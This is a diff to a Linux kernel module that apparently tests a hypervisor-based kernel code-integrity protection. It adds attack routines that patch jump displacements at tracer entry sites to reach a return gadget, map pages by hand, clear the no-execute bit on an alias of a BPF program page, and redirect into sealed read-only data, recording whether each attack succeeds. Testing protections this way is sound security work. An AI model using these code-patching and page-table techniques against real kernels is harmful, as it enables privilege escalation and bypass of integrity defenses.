@@ -7,6 +7,8 @@
  * static call lead elsewhere; or to have a jump whose displacement is code.
  */
 #include <linux/cpumask.h>
+#include <linux/gfp.h>
+#include <linux/io.h>
 #include <linux/jump_label.h>
 #include <linux/kthread.h>
 #include <linux/module.h>
@@ -16,6 +18,9 @@
 #include <linux/string.h>
 
 #include "attack_module.h"
+#include "code.h"
+#include "hypercall.h"
+#include "requests.h"
 
 /* Until one is won, which is a matter of chance; far more than that takes */
 #define RACES		10000
@@ -187,22 +192,40 @@ static void probe_middle(struct attack_request *q)
 	q->effect = (u8)q->after == INT3 ? ATTACK_SUCCEEDED : ATTACK_HAD_NO_EFFECT;
 }
 
-/* "mov $0x5a, %al; ret" */
-static const u8 gadget[] = { 0xb0, 0x5a, 0xc3 };
+/*
+ * The bytes of a displacement: lowest of the address; "xchg %eax, %edi; ret", which
+ * returns the first argument; and how far it is
+ */
+#define XCHG_EAX_EDI	0x97
+#define RET_NEAR	0xc3
+#define GADGET_OFFSET	2	/* behind the site */
+#define GADGET_ARGUMENT	0x5a11ed
+#define DISPLACEMENT	(JUMP_SIZE - 1)
 
-#define GADGET_RETURNS	0x5a
+/* What Linux puts into a page of its own begins at a multiple of this. */
+#define TARGET_ALIGNMENT	64
+
+static u64 target_of(const u8 *site, const u8 displacement[DISPLACEMENT])
+{
+	s32 distance;
+
+	memcpy(&distance, displacement, sizeof(distance));
+	return (u64)site + JUMP_SIZE + distance;
+}
 
 /* With that, and leading to where nothing is */
-static bool find_displacement(const u8 *site, u8 displacement[JUMP_SIZE - 1])
+static bool find_displacement(const u8 *site, u8 displacement[DISPLACEMENT])
 {
 	unsigned int level;
-	s32 distance;
 	u64 to, pa;
 
-	memcpy(displacement, gadget, sizeof(gadget));
+	displacement[1] = XCHG_EAX_EDI;
+	displacement[2] = RET_NEAR;
 	for (displacement[3] = 0; displacement[3] < 0x40; displacement[3]++) {
-		memcpy(&distance, displacement, sizeof(distance));
-		to = (u64)site + JUMP_SIZE + distance;
+		displacement[0] = 0;
+		displacement[0] = -target_of(site, displacement) &
+				  (TARGET_ALIGNMENT - 1);
+		to = target_of(site, displacement);
 		if (to >= MODULES_VADDR && to < MODULES_END &&
 		    !attack_entry(to, &pa, &level))
 			return true;
@@ -211,23 +234,24 @@ static bool find_displacement(const u8 *site, u8 displacement[JUMP_SIZE - 1])
 }
 
 /* In the order in which Linux has a jump or a call come, but for its first byte */
-static void run_displacement(struct attack_request *q, u8 *site)
+static void run_displacement(struct attack_request *q, u8 *site,
+			     const u8 displacement[DISPLACEMENT])
 {
-	u8 old[JUMP_SIZE], displacement[JUMP_SIZE - 1];
 	static const u8 int3 = INT3;
+	u8 old[JUMP_SIZE];
 
-	if (!site || !find_displacement(site, displacement))
-		return;
 	memcpy(old, site, sizeof(old));
 	patch(site, &int3, 1);
-	patch(site + 1, displacement, sizeof(displacement));
+	patch(site + 1, displacement, DISPLACEMENT);
 	q->effect = ATTACK_HAD_NO_EFFECT;
 	/* What was refused has been made what is there, where it came from, too. */
-	if (!memcmp(site + 1, gadget, sizeof(gadget))) {
-		q->after = (u8)attack_call((u64)site + 1, 0, 0, 0, 0);
-		if (q->after == GADGET_RETURNS)
+	if (site[GADGET_OFFSET] == XCHG_EAX_EDI &&
+	    site[GADGET_OFFSET + 1] == RET_NEAR) {
+		q->after = attack_call((u64)site + GADGET_OFFSET,
+				       GADGET_ARGUMENT, 0, 0, 0);
+		if ((u32)q->after == GADGET_ARGUMENT)
 			q->effect = ATTACK_SUCCEEDED;
-		patch(site + 1, old + 1, sizeof(displacement));
+		patch(site + 1, old + 1, DISPLACEMENT);
 	}
 	patch(site, old, 1);
 }
@@ -235,19 +259,95 @@ static void run_displacement(struct attack_request *q, u8 *site)
 static void probe_gadget(struct attack_request *q)
 {
 	static const u8 begins[] = { NOP1, MOVL_EAX };
-	u8 *function = (u8 *)attack_other_canary;
+	u8 *function = (u8 *)attack_other_canary, *site;
+	u8 displacement[DISPLACEMENT];
 
 	OPTIMIZER_HIDE_VAR(function);
-	run_displacement(q, find_in(function, begins, sizeof(begins)));
+	site = find_in(function, begins, sizeof(begins));
+	if (site && find_displacement(site, displacement))
+		run_displacement(q, site, displacement);
+}
+
+/* A function's entry, where a tracer's call may come */
+static u8 *find_entry(u8 displacement[DISPLACEMENT])
+{
+	static const u8 nop5[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
+	u8 *function = (u8 *)race_branch, *site;
+
+	OPTIMIZER_HIDE_VAR(function);
+	site = find_in(function, nop5, sizeof(nop5));
+	return site && find_displacement(site, displacement) ? site : NULL;
 }
 
 static void entry_gadget(struct attack_request *q)
 {
-	static const u8 nop5[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
-	u8 *function = (u8 *)race_branch;
+	u8 displacement[DISPLACEMENT], *site = find_entry(displacement);
 
-	OPTIMIZER_HIDE_VAR(function);
-	run_displacement(q, find_in(function, nop5, sizeof(nop5)));
+	if (site)
+		run_displacement(q, site, displacement);
+}
+
+/* The page-table entry; NULL where the kernel makes none */
+static u64 *map_page(u64 va, u64 pa, pgprot_t protection)
+{
+	u64 map = attack_symbol("vmap_page_range") ? :
+		  attack_symbol("ioremap_page_range");
+	unsigned int level;
+	u64 unused;
+
+	va &= PAGE_MASK;
+	if (!map || (int)attack_call(map, va, va + PAGE_SIZE, pa & PAGE_MASK,
+				     pgprot_val(protection)))
+		return NULL;
+	return attack_entry(va, &unused, &level);
+}
+
+/* It leads to data that have been named to be sealed, and look like a function. */
+static void entry_rodata(struct attack_request *q)
+{
+	static const u8 endbr[] = { 0xf3, 0x0f, 0x1e, 0xfa };
+	u8 displacement[DISPLACEMENT], *site = find_entry(displacement);
+	u8 *page = (u8 *)get_zeroed_page(GFP_KERNEL);
+	struct seal_request seal = { .class = CLASS_RODATA, .pages = 1 };
+	u64 *entry = NULL, to;
+
+	if (site && page) {
+		to = target_of(site, displacement);
+		memcpy(page + to % PAGE_SIZE, endbr, sizeof(endbr));
+		entry = map_page(to, __pa(page), PAGE_KERNEL_RO);
+	}
+	if (entry) {
+		seal.va = to & PAGE_MASK;
+		attack_hypercall(HYPERCALL_SEAL, (u64)&seal, 0);
+		run_displacement(q, site, displacement);
+		attack_hypercall(HYPERCALL_RELEASE, __pa(page), 0);
+		attack_set_entry(entry, 0, to);
+	}
+	/* Locked, it stays sealed. */
+	if (page && attack_hypercall(HYPERCALL_RELEASE, __pa(page), 0) != -EPERM)
+		free_page((unsigned long)page);
+}
+
+/* It leads to code that was made at run time, and is elsewhere. */
+static void entry_alias(struct attack_request *q)
+{
+	u8 displacement[DISPLACEMENT], *site = find_entry(displacement);
+	unsigned int level;
+	u64 *entry, pa, to;
+	u8 *program;
+	u32 size;
+
+	program = attack_bpf_program(q->argument, &size);
+	if (!site || !program || !attack_entry((u64)program, &pa, &level))
+		return;
+	to = target_of(site, displacement);
+	entry = map_page(to, pa, PAGE_KERNEL_ROX);
+	if (!entry)
+		return;
+	/* Who maps by that function does not get to run it. */
+	attack_set_entry(entry, *entry & ~_PAGE_NX, to);
+	run_displacement(q, site, displacement);
+	attack_set_entry(entry, 0, to);
 }
 
 static void (*const attacks[])(struct attack_request *q) = {
@@ -259,6 +359,8 @@ static void (*const attacks[])(struct attack_request *q) = {
 	A(PROBE_MIDDLE, probe_middle),
 	A(PROBE_GADGET, probe_gadget),
 	A(ENTRY_GADGET, entry_gadget),
+	A(ENTRY_RODATA, entry_rodata),
+	A(ENTRY_ALIAS, entry_alias),
 #undef A
 };
 
@@ -269,6 +371,6 @@ static void perform(struct attack_request *q)
 
 const struct attack_group attack_patch = {
 	.first = ATTACK_CODE_CALL_OTHER,
-	.last = ATTACK_CODE_ENTRY_GADGET,
+	.last = ATTACK_CODE_ENTRY_ALIAS,
 	.perform = perform,
 };
